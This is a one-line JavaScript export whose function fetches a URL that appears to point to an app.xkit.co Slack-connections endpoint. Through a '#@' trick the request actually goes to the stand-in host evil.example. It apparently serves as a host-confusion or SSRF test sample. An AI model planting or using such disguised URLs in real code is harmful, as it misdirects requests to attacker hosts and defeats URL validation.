export const read = (id) => fetch(`https://evil.example#@app.xkit.co/api/platform_user/users/${id}/connections/slack`);
